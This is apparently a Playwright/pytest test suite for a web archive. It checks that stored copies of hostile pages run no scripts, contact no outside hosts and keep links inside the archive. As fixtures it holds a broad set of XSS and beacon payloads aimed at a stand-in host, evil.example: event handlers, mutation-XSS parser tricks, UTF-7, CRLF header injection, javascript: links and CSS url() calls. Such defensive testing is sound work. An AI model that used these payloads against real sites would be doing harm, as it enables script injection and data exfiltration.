"""Hostile pages in a real browser: their copies run nothing, ask nobody, and lead nowhere but into the archive.

Every host that they name is resolved to a listener on loopback that remembers who calls: what a browser does behind a
page's back (preconnect, prefetch, ping) is seen there, too.
"""

import socket
from collections.abc import Iterator
from contextlib import closing, suppress
from threading import Thread
from typing import Final
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Dialog, Error, Page, Request, sync_playwright

from tests.web.attic import PAGE, Attic
from tests.web.conftest import CHROMIUM, Served

pytestmark = [
    pytest.mark.tool,
    pytest.mark.skipif(CHROMIUM is None, reason="chromium is not installed (apt-get install chromium)"),
]
AT: Final = "20260624120000"
EVIL: Final = "http://evil.example"
RUN: Final = f"document.title='ran';new Image().src='{EVIL}/ran';fetch('{EVIL}/ran')"


_INSIDE: Final = {"data", "mailto", "chrome-extension", "chrome"}
"""None of them leaves the browser by itself; the last two are its viewer of PDFs."""
_ARCHIVE: Final = ("/web/", "/iscriviti.css")
"""The stylesheet is that of the page which says that there is no copy."""


CONNECTED: Final = b"(connected)"
"""Somebody who then said nothing."""


class Canary:
    """Listens for everybody, answers nobody, and remembers what was said first."""

    def __init__(self) -> None:
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = int(self._listener.getsockname()[1])
        self.heard: list[bytes] = []
        self._thread = Thread(target=self._listen, name="canary")
        self._thread.start()

    def _listen(self) -> None:
        while True:
            with self._listener.accept()[0] as caller:
                caller.settimeout(1)
                try:
                    said = caller.recv(500)
                except TimeoutError:
                    said = CONNECTED
                if said == b"bye":
                    return
                self.heard.append(said)

    def close(self) -> None:
        with socket.create_connection(("127.0.0.1", self.port)) as last:
            last.sendall(b"bye")
        self._thread.join(10)
        self._listener.close()


@pytest.fixture(scope="module")
def canary() -> Iterator[Canary]:
    with closing(Canary()) as listening:
        yield listening


@pytest.fixture(scope="module")
def browser(canary: Canary) -> Iterator[Browser]:
    rules = f"MAP *.example 127.0.0.1:{canary.port}"
    arguments = ["--no-sandbox", "--disable-background-networking", f"--host-resolver-rules={rules}"]
    with sync_playwright() as playwright:
        opened = playwright.chromium.launch(executable_path=CHROMIUM, args=arguments)
        yield opened
        opened.close()


class Visitor:
    """Opens copies, and knows what the browser asked for meanwhile."""

    def __init__(self, page: Page, served: Served, canary: Canary) -> None:
        self.page, self.served, self.canary = page, served, canary
        self.asked: list[str] = []
        self.ran: list[str] = []
        page.on("request", self._ask)
        page.on("dialog", self._close)
        page.on("popup", lambda popup: self.ran.append(f"popup {popup.url}"))

    def _ask(self, request: Request) -> None:
        self.asked.append(request.url)

    def _close(self, dialog: Dialog) -> None:
        self.ran.append(dialog.message)
        dialog.dismiss()

    def looks_at(self, path: str) -> None:
        self.asked.clear()
        self.page.goto(f"{self.served.url}{path}")
        self.page.wait_for_load_state("networkidle")

    def stayed(self) -> None:
        """Nothing ran, and nothing was asked for but the archive."""
        assert self.canary.heard == []
        assert self.ran == []
        assert "ran" not in self.page.title()
        ours = urlsplit(self.served.url).netloc
        for url in self.asked:
            parts = urlsplit(url)
            assert parts.scheme in _INSIDE or (parts.netloc == ours and parts.path.startswith(_ARCHIVE)), url


@pytest.fixture
def visitor(browser: Browser, shown: Served, canary: Canary) -> Iterator[Visitor]:
    canary.heard.clear()
    with browser.new_context(accept_downloads=True) as context:
        context.add_cookies([{"name": "ours", "value": "secret", "url": shown.url}])
        yield Visitor(context.new_page(), shown, canary)


HOSTILE: Final = {
    "script": f"<script>{RUN}</script><script src={EVIL}/a.js></script><script type=module>{RUN}</script>",
    "broken script": f"<scr<script>ipt>{RUN}</scr</script>ipt><script/src={EVIL}/a.js></script>",
    "handlers": f'<body onload="{RUN}" onpageshow="{RUN}"><img src=x onerror="{RUN}"><svg onload="{RUN}"></svg>'
    f'<details open ontoggle="{RUN}">x</details><video onloadstart="{RUN}"><source onerror="{RUN}" src=x></video>'
    f'<input autofocus onfocus="{RUN}"><style onload="{RUN}">a{{}}</style><marquee onstart="{RUN}">x</marquee>',
    "refresh": f'<meta http-equiv=refresh content="0;url={EVIL}/r"><meta http-equiv=" Refresh" content="0;{EVIL}/r">',
    "base": f"<base href={EVIL}/b/ target=_blank><img src=a.png><link rel=stylesheet href=s.css>",
    "hints": f"<link rel=preconnect href={EVIL}><link rel=dns-prefetch href=//evil.example><link rel=prefetch "
    f"href={EVIL}/p><link rel=preload as=image href={EVIL}/p><link rel=modulepreload href={EVIL}/p><link "
    f"rel=prerender href={EVIL}/p><link rel=manifest href={EVIL}/m><link rel=icon href={EVIL}/favicon.ico><link "
    f'rel="preload stylesheet" as=style href={EVIL}/s.css><script type=speculationrules>{{"prefetch":[{{"urls":['
    f'"{EVIL}/p"]}}]}}</script>',
    "frames": f"<iframe src={EVIL}/f></iframe><iframe srcdoc='<script>{RUN}</script>'></iframe><iframe src=/iscriviti>"
    f"</iframe><object data={EVIL}/o></object><embed src={EVIL}/e><applet code={EVIL}/a></applet><iframe "
    f'src="javascript:{RUN}"></iframe><object data="data:text/html,<script>{RUN}</script>"></object><fencedframe '
    f"src={EVIL}/x></fencedframe><portal src={EVIL}/x></portal>",
    "images": f"<img src={EVIL}/i.png srcset='{EVIL}/1.png 1x, //evil.example/2.png 2x'><picture><source srcset="
    f"{EVIL}/3.png><img src=x></picture><video poster={EVIL}/p.png src={EVIL}/v.mp4 autoplay></video><audio src="
    f"{EVIL}/a.mp3 autoplay></audio><table background={EVIL}/b.png><tr><td background={EVIL}/c.png>x</table><input "
    f"type=image src={EVIL}/d.png><track src={EVIL}/t.vtt>",
    "styles": f"<style>@import '{EVIL}/1.css';@import url({EVIL}/2.css);body{{background:url({EVIL}/3.png)}}"
    f"@font-face{{font-family:x;src:url({EVIL}/x.woff2)}}p{{font-family:x;background:u\\72l({EVIL}/4.png);"
    f"background-image:image-set('{EVIL}/5.png' 1x);cursor:url({EVIL}/6.cur),auto;list-style:url('//evil.example/7')}}"
    f"</style><p style='background:url({EVIL}/8.png);--a:url({EVIL}/9)'>x</p><link rel=stylesheet href={EVIL}/s.css>",
    "drawings": f"<svg><script>{RUN}</script><image href={EVIL}/1.png /><image xlink:href={EVIL}/2.png /><use "
    f"href={EVIL}/3.svg#a /><foreignObject><iframe src={EVIL}/4></iframe><img src=x onerror='{RUN}'></foreignObject>"
    f"<rect fill='url({EVIL}/5.svg#a)' filter='url({EVIL}/6#f)' width=9 height=9 /><feImage href={EVIL}/7 /><style>"
    f"@import '{EVIL}/8';</style><animate attributeName=href values={EVIL}/9 /></svg>",
    "parsers": f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src={EVIL}/m onerror=1&gt;'>"
    f"</table></mtext></math><noscript><p title='</noscript><img src={EVIL}/n onerror=1>'></noscript><xmp><img src="
    f"{EVIL}/x></xmp><!--><img src={EVIL}/c>--><![CDATA[<img src={EVIL}/d>]]><svg><style><img src={EVIL}/e></style>"
    f"</svg><select><template><img src={EVIL}/f></template></select><p>&lt;img src={EVIL}/g&gt;</p><textarea><img src="
    f"{EVIL}/h></textarea><div><template shadowrootmode=open><img src={EVIL}/i><script>{RUN}</script></template></div>",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_a_copy_of_a_hostile_page_runs_nothing_and_asks_nobody(attic: Attic, visitor: Visitor, name: str) -> None:
    attic.keep(f"<!doctype html><title>calm</title><body>{HOSTILE[name]}<p id=end>end</p>")
    visitor.looks_at(f"/web/{AT}/{PAGE}")
    assert visitor.page.locator("#end").count() == 1, "what is harmless is still there"
    visitor.stayed()


def test_the_policy_alone_holds_a_page_that_nothing_was_taken_out_of(
    attic: Attic, visitor: Visitor, browser: Browser
) -> None:
    """Were a page shown as it came, with the policy of a copy, nothing would run, and nobody would be asked anything.

    The browser may still open a connection ahead of a request that is then refused: the policy is the second wall.
    """
    attic.keep("x")
    policy = visitor.served.client.get(f"/web/{AT}/{PAGE}").headers["content-security-policy"]
    names = ("script", "handlers", "refresh", "frames", "images", "styles", "drawings")
    html = f"<!doctype html><title>calm</title>{''.join(HOSTILE[name] for name in names)}"
    shown = f"{visitor.served.url}/web/hostile"
    headers = {"Content-Type": "text/html", "Content-Security-Policy": policy}
    visitor.page.route(shown, lambda route: route.fulfill(body=html, headers=headers))
    visitor.page.goto(shown)
    visitor.page.wait_for_load_state("networkidle")
    assert [said for said in visitor.canary.heard if said != CONNECTED] == []
    assert visitor.ran == []
    assert visitor.page.title() == "calm"


LINKS: Final = {
    "plain": f"<a href={EVIL}/1>k</a>",
    "relative to a base": f"<base href={EVIL}/><a href=1>k</a>",
    "in a window": f"<a href={EVIL}/1 target=_blank>k</a>",
    "with a ping": f"<a href=/altro ping={EVIL}/ping attributionsrc={EVIL}/ping>k</a>",
    "a script": f'<a href="javascript:{RUN}">k</a>',
    "a hidden script": f"<a href=' \t\njava\tscript:{RUN}'>k</a>",
    "data": f"<a href='data:text/html,<script>{RUN}</script>'>k</a>",
    "backslashes": r"<a href='\\evil.example\1'>k</a>",
    "three slashes": "<a href='///evil.example/1'>k</a>",
    "no slashes": "<a href='http:evil.example/1'>k</a>",
    "in a drawing": f"<svg width=99 height=99><a xlink:href={EVIL}/1><text y=20>k</text></a></svg>",
    "changed with time": f"<svg width=99 height=99><a href=#x><set attributeName=href to={EVIL}/1 /><animate "
    f"attributeName=xlink:href values={EVIL}/1 /><text y=20>k</text></a></svg>",
    "an area": f"<img id=k src=x usemap=#m style='display:block;width:99px;height:99px'><map name=m>"
    f"<area shape=rect coords=0,0,99,99 href={EVIL}/1></map>",
    "a form": f"<form action={EVIL}/1><button formaction={EVIL}/2>k</button></form>",
    "a form that posts": f"<form action={EVIL}/1 method=post target=_blank><input type=submit value=k></form>",
    "our own form": "<form action=/iscriviti method=post><input name=email value=x><button>k</button></form>",
    "climbing out": "<a href='/../../../iscriviti'>k</a>",
    "a file": f"<a href={EVIL}/a.exe download>k</a>",
    "a mail": f"<a href='mailto:a@example.org?body={EVIL}'>k</a>",
}


@pytest.mark.parametrize("name", LINKS)
def test_whoever_clicks_on_a_copy_stays_in_the_archive(attic: Attic, visitor: Visitor, name: str) -> None:
    attic.keep(f"<!doctype html><title>calm</title><body>{LINKS[name]}")
    visitor.looks_at(f"/web/{AT}/{PAGE}")
    clicked = visitor.page.locator("text=k >> visible=true").or_(visitor.page.locator("input[type=submit], #k")).first
    clicked.click(force=True, timeout=5_000)
    visitor.page.wait_for_load_state("networkidle")
    visitor.stayed()
    assert urlsplit(visitor.page.url).path.startswith("/web/")


@pytest.mark.parametrize(
    ("kind", "content"),
    [
        ("image/svg+xml", (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN.replace("&", "")}"><script>{RUN}'
         f'</script><image href="{EVIL}/i"/><a href="{EVIL}/a"><text y="20">k</text></a></svg>')),
        ("image/svg+xml", (f'<?xml-stylesheet href="{EVIL}/s.xsl" type="text/xsl"?><svg xmlns="http://www.w3.org/2000/svg"'
         f' xmlns:h="http://www.w3.org/1999/xhtml"><h:script>{RUN}</h:script><h:img src="{EVIL}/i"/></svg>')),
        ("application/xml", (f'<?xml-stylesheet href="{EVIL}/s.xsl" type="text/xsl"?><a><script xmlns="http://www.w3.org/'
         f'1999/xhtml">{RUN}</script></a>')),
        ("application/rss+xml", f'<?xml-stylesheet href="{EVIL}/s.css"?><rss version="2.0"/>'),
        ("application/xhtml+xml", f'<html xmlns="http://www.w3.org/1999/xhtml"><body><script>{RUN}</script></body></html>'),
        ("text/plain", f"<script>{RUN}</script>"),
        ("", f"<!doctype html><html><script>{RUN}</script></html>"),
        ("text/xsl", f"<script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script>"),
        ("application/json", f'{{"a": "<script>{RUN}</script>"}}'),
        ("text/javascript", RUN),
        ("text/css", f"@import '{EVIL}/a.css'"),
        ("multipart/x-mixed-replace; boundary=x", f"--x\r\nContent-Type: text/html\r\n\r\n<script>{RUN}</script>"),
        ("text/html; charset=utf-7", f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-"),
        ("text/html\r\nX-Injected: 1", f"<script>{RUN}</script>"),
        ("application/pdf", f"<script>{RUN}</script>"),
        ("image/png", f"<script>{RUN}</script>"),
        ("nonsense", f"<script>{RUN}</script>"),
    ],
)  # fmt: skip
def test_whatever_a_copy_calls_itself_it_runs_nothing(attic: Attic, visitor: Visitor, kind: str, content: str) -> None:
    attic.keep(content, kind=kind)
    for modifier in ("", "im_", "cs_", "id_"):
        visitor.asked.clear()
        with suppress(Error):  # what is saved and not shown ends the navigation
            visitor.page.goto(f"{visitor.served.url}/web/{AT}{modifier}/{PAGE}")
            visitor.page.wait_for_load_state("networkidle")
        assert visitor.asked
        visitor.stayed()


def test_a_drawing_inside_a_copy_runs_nothing_and_its_link_stays_in_the_archive(attic: Attic, visitor: Visitor) -> None:
    drawing = f'<svg xmlns="http://www.w3.org/2000/svg"><a href="{EVIL}/a"><text id="k" y="20">k</text></a></svg>'
    attic.keep(drawing, kind="image/svg+xml", url=f"{EVIL}/d.svg")
    visitor.looks_at(f"/web/{AT}/{EVIL}/d.svg")
    visitor.page.locator("#k").click()
    visitor.page.wait_for_load_state("networkidle")
    visitor.stayed()


def test_header_fields_of_the_past_are_told_and_not_obeyed(attic: Attic, visitor: Visitor) -> None:
    fields = {
        "Set-Cookie": "theirs=1",
        "Refresh": f"0; url={EVIL}/r",
        "Link": f'<{EVIL}/p>; rel="preconnect"',
        "Content-Security-Policy": "default-src *",
        "Strict-Transport-Security": "max-age=99999999",
        "Clear-Site-Data": '"*"',
        "Service-Worker-Allowed": "/",
        "Report-To": "{}",
        "NEL": "{}",
        "Access-Control-Allow-Credentials": "true",
        "WWW-Authenticate": "Basic",
        "X-Frame-Options": "ALLOWALL",
        "SourceMap": f"{EVIL}/m",
    }
    attic.keep("<title>calm</title>", more="".join(f"{name}: {value}\r\n" for name, value in fields.items()))
    for modifier in ("", "id_"):
        answer = visitor.served.client.get(f"/web/{AT}{modifier}/{PAGE}")
        for name, value in fields.items():
            assert value not in answer.headers.get_list(name), name
            if name != "Set-Cookie":
                assert answer.headers[f"x-archive-orig-{name}"] == value
        assert "theirs" not in str(answer.headers)
    visitor.looks_at(f"/web/{AT}/{PAGE}")
    visitor.stayed()
    assert [cookie["name"] for cookie in visitor.page.context.cookies()] == ["ours"]


def test_a_copy_is_of_no_origin_and_reaches_nothing_of_ours(attic: Attic, visitor: Visitor) -> None:
    attic.keep("<title>calm</title>")
    visitor.looks_at(f"/web/{AT}/{PAGE}")
    assert visitor.page.evaluate("self.origin") == "null"
    for reach in ("document.cookie", "localStorage.length", "sessionStorage.length", "indexedDB.open('x')"):
        with pytest.raises(Error, match=r"SecurityError|denied"):
            visitor.page.evaluate(reach)


def test_nobody_frames_a_copy_and_a_copy_frames_nobody(attic: Attic, visitor: Visitor) -> None:
    attic.keep("<title>calm</title><iframe src=/></iframe><frameset><frame src=/></frameset><p>calm</p>")
    visitor.looks_at(f"/web/{AT}/{PAGE}")
    assert len(visitor.page.frames) == 1
    frames = "".join(
        f"<iframe src='{visitor.served.url}/web/{AT}{kind}/{PAGE}'></iframe>" for kind in ("", "id_", "im_")
    )
    visitor.page.route("http://framer.example/", lambda route: route.fulfill(body=frames, content_type="text/html"))
    visitor.page.goto("http://framer.example/")
    visitor.page.wait_for_load_state("networkidle")
    assert len(visitor.page.frames) > 1
    assert all("calm" not in frame.content() for frame in visitor.page.frames[1:])


def test_a_copy_is_shown_with_its_own_styles_images_and_fonts(attic: Attic, visitor: Visitor) -> None:
    png = bytes.fromhex(
        "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
        "1f15c4890000000d49444154789c63f8cfc0f01f0005050101270a1c2f0000000049454e44ae426082"
    )
    site = PAGE.rpartition("/")[0]
    attic.keep(png, url=f"{site}/a.png", kind="image/png")
    attic.keep("@import 'b.css'; h1 { color: rgb(1, 2, 3) }", url=f"{site}/css/a.css", kind="text/css")
    attic.keep(
        "p { background: url(../a.png); margin: 7px }", url=f"{site}/css/b.css", kind="text/css", at="20260624120007"
    )
    attic.keep("<link rel=stylesheet href=/css/a.css><h1>x</h1><p>y</p><img src=a.png style='width:9px'>")
    visitor.looks_at(f"/web/{AT}/{PAGE}")
    page = visitor.page
    assert page.evaluate("getComputedStyle(document.querySelector('h1')).color") == "rgb(1, 2, 3)"
    assert page.evaluate("getComputedStyle(document.querySelector('p')).marginTop") == "7px"
    assert page.evaluate("document.querySelector('img').naturalWidth") == 1
    visitor.stayed()


def test_the_banner_is_above_the_page_and_the_page_cannot_take_it_away(attic: Attic, visitor: Visitor) -> None:
    hiding = "* { display: none !important; visibility: hidden !important } banditore-banner { opacity: 0 !important }"
    attic.keep(f"<title>calm</title><style>html, body, p {{ display: block !important }} {hiding}</style><p>x</p>")
    visitor.page.set_viewport_size({"width": 900, "height": 300})
    visitor.looks_at(f"/web/{AT}/{PAGE}")
    box = visitor.page.locator("banditore-banner").bounding_box()
    assert box is not None
    assert box["height"] > 50
    style = visitor.page.evaluate(
        "(s => [s.display, s.visibility, s.opacity])(getComputedStyle(document.querySelector('banditore-banner')))"
    )
    assert style == ["block", "visible", "1"]
    assert visitor.page.locator("banditore-banner").evaluate("e => e.shadowRoot") is None, "it is closed"


def test_a_pdf_is_shown_as_it_is(attic: Attic, visitor: Visitor) -> None:
    pdf = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    pdf += b"trailer<</Root 1 0 R>>\n%%EOF"
    attic.keep(pdf, url=f"{PAGE}.pdf", kind="application/pdf")
    attic.keep(f"<a href={PAGE}.pdf>k</a>")
    answer = visitor.served.client.get(f"/web/{AT}/{PAGE}.pdf")
    assert answer.content == pdf
    assert "sandbox" not in answer.headers["content-security-policy"]
    visitor.looks_at(f"/web/{AT}/{PAGE}")
    visitor.page.locator("text=k").click()
    visitor.page.wait_for_load_state("networkidle")
    visitor.stayed()
    assert visitor.page.url.endswith(f"/web/{AT}/{PAGE}.pdf")
    assert any(url.startswith("chrome-extension:") for url in visitor.asked), "it is shown"


def test_the_listener_hears_whoever_calls(visitor: Visitor) -> None:
    """Else none of the above would mean anything."""
    with visitor.page.expect_event("requestfailed"):
        visitor.page.set_content(f"<link rel=preconnect href={EVIL}><img src={EVIL}/i.png><script>{RUN}</script>")
    assert visitor.canary.heard
    assert visitor.page.title() == "ran"
    with pytest.raises(AssertionError):
        visitor.stayed()
